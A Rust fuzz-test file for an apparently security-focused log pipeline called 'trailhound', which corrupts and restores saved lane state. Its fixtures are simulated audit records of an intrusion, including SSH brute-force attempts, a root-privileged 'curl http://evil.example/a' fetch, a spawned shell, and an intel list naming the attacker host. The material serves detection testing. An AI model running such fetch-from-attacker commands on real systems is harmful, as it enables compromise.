//! The saved state of a lane, which comes back from a topic: whatever became of its records, it is taken or refused. One
//! that was taken goes on: it reads lines, lets time pass, tells what changed, is taken again by that, and ends with
//! nothing open.
//!
//! The bytes are changes of a state with something of everything in it: a logon and one that failed, a session, processes,
//! a sighting, an event that is open, a hole in the serials, a carrier, the header of a flow table.

use std::collections::BTreeMap;
use std::sync::{Arc, LazyLock};

use trailhound::model::{Input, Kind, OutputKind, Outputs, Settings, Source, Timestamp};
use trailhound::pipeline::intel::{Builder, IntelSet};
use trailhound::pipeline::lane::{Bookmark, Lane};

use super::Choices;

type Pairs = BTreeMap<Vec<u8>, Vec<u8>>;

const NOW: i64 = 1_795_318_760_000;

const BEFORE: [&str; 15] = [
    "node=web01 type=USER_AUTH msg=audit(1795318750.000:100): pid=400 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.66 addr=203.0.113.66 terminal=ssh res=failed'",
    "node=web01 type=USER_LOGIN msg=audit(1795318750.100:101): pid=400 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.66 terminal=ssh res=failed'",
    "node=web01 type=USER_AUTH msg=audit(1795318751.000:102): pid=500 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.66 addr=203.0.113.66 terminal=ssh res=success'",
    "node=web01 type=LOGIN msg=audit(1795318751.100:103): pid=500 uid=0 old-auid=4294967295 auid=1000 tty=(none) old-ses=4294967295 ses=3 res=1\x1dUID=\"root\" OLD-AUID=\"unset\" AUID=\"alice\"",
    "node=web01 type=USER_START msg=audit(1795318751.200:104): pid=500 uid=0 auid=1000 ses=3 msg='op=PAM:session_open acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.66 addr=203.0.113.66 terminal=ssh res=success'",
    "node=web01 type=SYSCALL msg=audit(1795318752.000:105): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=500 pid=600 auid=1000 uid=1000 gid=1000 euid=0 tty=pts0 ses=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\x1dAUID=\"alice\" UID=\"alice\" EUID=\"root\"",
    "node=web01 type=EXECVE msg=audit(1795318752.000:105): argc=2 a0=\"curl\" a1=\"http://evil.example/a\"",
    "node=web01 type=CWD msg=audit(1795318752.000:105): cwd=\"/root\"",
    "node=web01 type=PROCTITLE msg=audit(1795318752.000:105): proctitle=6375726C",
    "node=web01 type=EOE msg=audit(1795318752.000:105): ",
    "node=web01 type=SYSCALL msg=audit(1795318753.000:107): arch=c000003e syscall=42 success=yes exit=0 ppid=500 pid=600 auid=1000 uid=1000 gid=1000 euid=0 tty=pts0 ses=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"net\"",
    "node=web01 type=SOCKADDR msg=audit(1795318753.000:107): saddr=02001F90CB0071420000000000000000",
    "node=web01 type=EOE msg=audit(1795318753.000:107): ",
    "node=web01 type=USER_START msg=audit(1795318754.000:108): pid=700 uid=0 auid=1001 ses=4 msg='op=PAM:session_open acct=\"bob\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'",
    "node=web01 type=USER_END msg=audit(1795318755.000:109): pid=700 uid=0 auid=1001 ses=4 msg='op=PAM:session_close acct=\"bob\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'",
];

/// What is open when the state is saved.
const OPEN: [&str; 3] = [
    "node=web01 type=SYSCALL msg=audit(1795318756.000:110): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=600 pid=601 auid=1000 uid=1000 gid=1000 euid=0 tty=pts0 ses=3 comm=\"sh\" exe=\"/bin/sh\" key=\"exec\"",
    "node=web01 type=EXECVE msg=audit(1795318756.000:110): argc=1 a0=\"sh\"",
    "type=CWD msg=audit(1795318757.000:7): cwd=\"/\"",
];

/// They meet each piece of that: the open event, processes, the session and its end, the address, a carrier.
const AFTER: [&str; 8] = [
    "node=web01 type=EOE msg=audit(1795318756.000:110): ",
    "node=web01 type=SYSCALL msg=audit(1795318758.000:112): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=601 pid=602 auid=1000 uid=1000 gid=1000 euid=0 tty=pts0 ses=3 comm=\"id\" exe=\"/usr/bin/id\" key=\"exec\"",
    "node=web01 type=EXECVE msg=audit(1795318758.000:112): argc=1 a0=\"id\"",
    "node=web01 type=EOE msg=audit(1795318758.000:112): ",
    "node=web01 type=USER_AUTH msg=audit(1795318758.500:113): pid=401 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"bob\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.66 addr=203.0.113.66 terminal=ssh res=failed'",
    "node=web01 type=USER_END msg=audit(1795318759.000:114): pid=500 uid=0 auid=1000 ses=3 msg='op=PAM:session_close acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.66 addr=203.0.113.66 terminal=ssh res=success'",
    "type=EOE msg=audit(1795318757.000:7): ",
    "node=web02 type=CWD msg=audit(1795318759.500:8): cwd=\"/\"",
];

const HEADER: &[u8] = b"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto";
const FLOW: &[u8] = b"1795318752.5\tC1\t10.0.0.1\t40000\t203.0.113.66\t80\ttcp";

static INTEL: LazyLock<IntelSet> = LazyLock::new(|| {
    let mut builder = Builder::default();
    builder.add("a", b"203.0.113.66\nevil.example\n");
    builder.build()
});

static SAVED: LazyLock<Vec<(Vec<u8>, Vec<u8>)>> = LazyLock::new(|| {
    let (mut lane, mut saved) = (Lane::tracked(settings()), Pairs::new());
    let mut out = Outputs::new();
    read(&mut lane, &BEFORE, &mut out);
    lane.tick(Timestamp(NOW + 5_000), &INTEL, &mut out);
    read(&mut lane, &OPEN, &mut out);
    step(&mut lane, Source::Flow, HEADER, &mut out);
    save(&mut lane, &mut saved);
    saved.into_iter().collect()
});

fn settings() -> Arc<Settings> {
    Arc::new(Settings {
        kinds: Kind::ALL.into_iter().collect(),
        ..Settings::default()
    })
}

fn read(lane: &mut Lane, lines: &[&str], out: &mut Outputs) {
    for line in lines {
        step(lane, Source::Audit, line.as_bytes(), out);
    }
}

fn step(lane: &mut Lane, source: Source, value: &[u8], out: &mut Outputs) {
    let input = Input {
        source,
        value,
        key: Some(b"web01"),
        host: Some(b"relay"),
        offset: 9,
    };
    lane.step(Timestamp(NOW), input, &INTEL, out);
}

fn save(lane: &mut Lane, saved: &mut Pairs) {
    lane.changes(&Bookmark::default(), &mut |key, value| {
        match value {
            Some(value) => saved.insert(key.to_vec(), value.to_vec()),
            None => saved.remove(key),
        };
    });
}

pub fn check(bytes: &[u8]) {
    let mut saved = changed(bytes);
    let Ok(Some((mut lane, _))) = Lane::restore(settings(), saved.clone()) else {
        return;
    };
    let mut out = Outputs::new();
    read(&mut lane, &AFTER, &mut out);
    step(&mut lane, Source::Flow, FLOW, &mut out);
    lane.tick(Timestamp(NOW + 6_000), &INTEL, &mut out);
    save(&mut lane, &mut saved);
    match Lane::restore(settings(), saved) {
        Ok(Some((again, _))) => assert_eq!(again.open_events(), lane.open_events()),
        Ok(None) => panic!("nothing was saved"),
        Err(error) => panic!("its own saved form: {error}"),
    }
    lane.tick(Timestamp(NOW + 86_400_000), &INTEL, &mut out);
    lane.finish(&INTEL, &mut out);
    assert_eq!((lane.open_events(), lane.open_bytes()), (0, 0));
    for output in out.iter() {
        let document = serde_json::from_slice::<serde_json::Value>(output.value);
        let is_letter = matches!(output.kind, OutputKind::DeadLetter(_));
        assert!(
            is_letter || document.is_ok_and(|d| d.is_object()),
            "{output:?}"
        );
    }
}

/// Each change: what is done, with which record, where, and with what.
fn changed(bytes: &[u8]) -> Pairs {
    let (mut choices, mut pairs) = (Choices::new(bytes), SAVED.clone());
    while !choices.is_empty() && !pairs.is_empty() {
        let (what, which) = (choices.byte(), choices.byte());
        let at = usize::from(which) % pairs.len();
        let (key, value) = &mut pairs[at];
        match what % 8 {
            0 => drop(pairs.swap_remove(at)),
            1 => spliced(key, &mut choices),
            2 => {
                let (mut key, value) = (key.clone(), value.clone());
                spliced(&mut key, &mut choices);
                pairs.push((key, value));
            }
            3 => {
                let key = key.clone();
                let other = usize::from(choices.byte()) % pairs.len();
                let value = pairs[other].1.clone();
                pairs.push((key, value));
            }
            _ => spliced(value, &mut choices),
        }
    }
    pairs.into_iter().collect()
}

fn spliced(bytes: &mut Vec<u8>, choices: &mut Choices<'_>) {
    let start = choices.number(2) as usize % (bytes.len() + 1);
    let sizes = usize::from(choices.byte());
    let end = (start + sizes % 4).min(bytes.len());
    bytes.splice(start..end, choices.take(sizes / 4 % 4).iter().copied());
}
